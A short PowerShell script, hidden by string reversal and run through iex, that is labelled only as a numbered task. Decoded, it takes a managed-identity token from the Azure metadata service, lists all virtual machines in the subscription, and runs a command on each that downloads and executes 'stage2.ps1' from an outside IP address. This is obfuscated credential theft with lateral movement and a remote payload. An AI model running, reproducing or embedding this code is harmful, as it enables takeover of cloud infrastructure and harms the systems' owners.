$iikti='
} nosj/noitacilppa epyTtnetnoC- ''}]"xei|1sp.2egats/44.2.0.291//:ptth rwi"[:"tpircs","tpircSllehSrewoPnuR":"dIdnammoc"{'' ydoB- "10-30-3202=noisrev-ipa?dnammoCnur/)di.mv$($moc.eruza.tnemeganam//:sptth" irU- h$ sredaeH- tsoP dohteM- dohteMtseR-ekovnI { )eulav.smv$ ni mv$( hcaerof
"10-30-3202=noisrev-ipa?senihcaMlautriv/etupmoC.tfosorciM/sredivorp/bus$/snoitpircsbus/moc.eruza.tnemeganam//:sptth" h$ sredaeH- dohteMtseR-ekovnI = smv$
}")nekot_ssecca.t$($ reraeB" = noitazirohtuA{@ = h$
nosJ-morFtrevnoC | tnetnoC.)"F2%moc.eruza.tnemeganamF2%F2%A3%sptth=ecruoser&10-20-8102=noisrev-ipa?nekot/2htuao/ytitnedi/atadatem/452.961.452.961//:ptth" }"eurt"=atadateM{@ sredaeH- gnisraPcisaBesU- tseuqeRbeW-ekovnI( = t$
1v 4966 ksat #'.ToCharArray(); [array]::Reverse($iikti); iex (-join $iikti)